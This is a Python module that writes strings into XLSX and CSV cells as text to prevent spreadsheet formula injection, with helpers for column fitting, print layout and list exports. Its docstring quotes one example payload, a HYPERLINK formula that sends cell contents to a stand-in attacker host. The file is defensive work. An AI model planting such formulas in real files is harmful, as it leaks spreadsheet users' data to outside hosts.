"""The one way Opora writes a string into an XLSX cell: always as text, never as a formula.

openpyxl turns a string that starts with ``=`` into a live formula, and a spreadsheet program may take a cell
starting with ``+``, ``-``, ``@``, a tab or a carriage return for one when it is edited (formula injection: a
person named ``=HYPERLINK("http://evil.example/?x="&A1,"Click")``). Every string goes through :func:`put` (a cell
of a normal sheet) or :func:`row` (a row of a write-only sheet): its cell type is forced to text (``s``), and a
string starting with one of those characters also gets Excel's *quote prefix* style (what typing ``'`` before
the value does), so it is shown and edited as text. The value itself is kept as it was (an export read back gives
the same string). Characters XLSX cannot hold (control characters) are dropped rather than failing the file.

A CSV file has no cell types: a spreadsheet program opening it runs ``=…`` as well. There a formula-like string is
written with a leading apostrophe (:func:`csv_cell`, what Excel reads as "this is text"), and the exchange import
takes exactly that apostrophe off again (:func:`csv_value`), so an exported file imports back to the same strings.
A string that already starts with apostrophes before a formula-like character gets one more, so the two are exact
inverses (``'=a`` is written ``''=a`` and read back as ``'=a``); any other apostrophe is left alone.
"""

from __future__ import annotations

import datetime
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(text: str) -> bool:
    """Would a spreadsheet take this string for a formula?"""
    return text.startswith(FORMULA_STARTS)


QUOTE = "'"


def needs_quote(text: str) -> bool:
    """Does a CSV cell of this text need the apostrophe: formula-like after any leading apostrophes?"""
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: a formula-like string with a leading apostrophe; anything else unchanged."""
    return QUOTE + value if isinstance(value, str) and needs_quote(value) else value


def csv_value(text: str) -> str:
    """The inverse of :func:`csv_cell` for a cell read from a CSV file: its one escaping apostrophe removed."""
    return text[1:] if text.startswith(QUOTE) and needs_quote(text) else text


def as_text(cell: Cell, value: str) -> Cell:
    """Store ``value`` into ``cell`` as text (escaped when it looks like a formula)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"
    if is_risky(value):
        cell.quotePrefix = True
    return cell


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``ws.cell(row, column, value)`` with every string stored as text."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        return as_text(cell, value)
    cell.value = value
    return cell


def row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``ws.append`` of a write-only sheet, every string a text cell."""
    from openpyxl.cell import WriteOnlyCell

    return [as_text(WriteOnlyCell(ws), v) if isinstance(v, str) else v for v in values]


def text_width(value: Any) -> int:
    """How many characters wide a cell's value shows: its longest line (numbers by their formatted length)."""
    if value is None:
        return 0
    if isinstance(value, float):
        return len(f"{value:,.2f}")
    if isinstance(value, int):
        return len(f"{value:,}")
    return max((len(line) for line in str(value).splitlines()), default=0)


def fit_columns(
    ws: Worksheet,
    *,
    first_row: int = 1,
    last_row: int | None = None,
    minimum: float = 8,
    maximum: float = 50,
    wrap_over: float = 50,
) -> None:
    """Column widths that fit the cells of rows ``first_row``..``last_row`` (a header wraps over at most three
    lines; a text longer than ``maximum`` wraps), within [``minimum``, ``maximum``] characters."""
    from openpyxl.styles import Alignment
    from openpyxl.utils import get_column_letter

    last_row = last_row or ws.max_row
    widths: dict[int, float] = {}
    for r in ws.iter_rows(min_row=first_row, max_row=last_row):
        for cell in r:
            if cell.value is None or not hasattr(cell, "column"):
                continue
            w: float = text_width(cell.value)
            if cell.alignment is not None and cell.alignment.wrap_text and isinstance(cell.value, str):
                words = str(cell.value).split()
                w = max(max((len(x) for x in words), default=0), min(w, max(w / 3, 12)))
            widths[cell.column] = max(widths.get(cell.column, 0), w)
    for column, need in widths.items():
        width = min(max(need + 2, minimum), maximum)
        ws.column_dimensions[get_column_letter(column)].width = width
        if need + 2 > wrap_over:
            for (cell,) in ws.iter_rows(min_row=first_row, max_row=last_row, min_col=column, max_col=column):
                if isinstance(cell.value, str) and len(cell.value) + 2 > width:
                    cell.alignment = Alignment(wrap_text=True, vertical="top")


def wrapped_lines(text: str, width: float) -> int:
    """How many lines a text wraps into in a column ``width`` characters wide (by words, roughly): the height a
    wrapped header row needs (LibreOffice does not grow a row by itself)."""
    lines, used = 1, 0
    for word in (text or "").split():
        if used and used + 1 + len(word) > width - 1:
            lines, used = lines + 1, len(word)
        else:
            used += (1 if used else 0) + len(word)
    return lines


def print_setup(
    ws: Worksheet, *, header_rows: str | None = None, area: str | None = None, landscape: bool = True
) -> None:
    """Landscape A4, fitted to the page width (as many pages down as needed), the header row(s) repeated on every
    page (``"3:3"``), and the printed area (``"A1:F20"``; what lies outside, e.g. a chart's data, is not printed)."""
    ws.page_setup.orientation = "landscape" if landscape else "portrait"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_options.gridLines = False
    if header_rows:
        ws.print_title_rows = header_rows
    if area:
        ws.print_area = area
    ws.page_margins.left = ws.page_margins.right = 0.4
    ws.page_margins.top = ws.page_margins.bottom = 0.6
    ws.oddFooter.center.text = "&P / &N"


def short_title(text: str, limit: int = 31) -> str:
    """A sheet name from a title: whole words within ``limit`` characters, «…» when cut."""
    text = " ".join(text.split())
    if len(text) <= limit:
        return text
    cut = text[: limit - 1]
    if " " in cut:
        cut = cut[: cut.rindex(" ")]
    return cut.rstrip(" :,;–-") + "…"


DAY_FORMAT = "DD.MM.YYYY"  # a date in a list as the pages write it (lib/formats.day: 31.12.2020)
LIST_WRAP = 50  # a column of a list is at most this many characters wide; a longer text wraps in it


def list_workbook(title: str, headings: Sequence[str], rows: Iterable[Sequence[Any]]) -> tuple[bytes, int]:
    """A list (the people list, the staff list) as an XLSX file laid out as the reports' tables are: the headings in
    row 1 (bold, wrapped), frozen on screen and repeated on every printed page; one row per item, every string as
    text (:func:`put`), dates as dates shown ``DD.MM.YYYY``; the columns fitted to their cells (:func:`fit_columns`)
    and the page set up by :func:`print_setup` (landscape A4, fitted to the width, page numbers). The sheet is
    named from ``title`` (:func:`short_title`). Returns the file and the number of rows written."""
    from openpyxl import Workbook  # imported when used: it costs ~0.5 s at start-up of every process
    from openpyxl.styles import Alignment, Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    ws.title = short_title("".join(" " if c in "[]:*?/\\" else c for c in title).strip() or "Sheet")
    bold, wrap = Font(bold=True), Alignment(wrap_text=True, vertical="top")
    for column, heading in enumerate(headings, start=1):
        cell = put(ws, 1, column, str(heading))
        cell.font, cell.alignment = bold, wrap
    count = 0
    for count, values in enumerate(rows, start=1):
        for column, value in enumerate(values, start=1):
            cell = put(ws, count + 1, column, value)
            if isinstance(value, datetime.date):
                cell.number_format = DAY_FORMAT
    fit_columns(ws, maximum=LIST_WRAP, wrap_over=LIST_WRAP)
    widths = [ws.column_dimensions[get_column_letter(j)].width or 8 for j in range(1, len(headings) + 1)]
    ws.row_dimensions[1].height = 15 * max((wrapped_lines(str(h), w) for h, w in zip(headings, widths, strict=True)),
                                           default=1)
    # a row as tall as its longest wrapped text (LibreOffice does not grow a row by itself): only the columns that
    # fit_columns wrapped (those at the widest) can have one
    wrapped = [j for j, w in enumerate(widths, start=1) if w >= LIST_WRAP]
    for r in range(2, count + 2) if wrapped else ():
        lines = max(wrapped_lines(v, widths[j - 1]) if isinstance(v := ws.cell(r, j).value, str) else 1
                    for j in wrapped)
        if lines > 1:
            ws.row_dimensions[r].height = 15 * lines
    ws.freeze_panes = "A2"
    print_setup(ws, header_rows="1:1", area=f"A1:{get_column_letter(max(len(headings), 1))}{count + 1}")
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue(), count
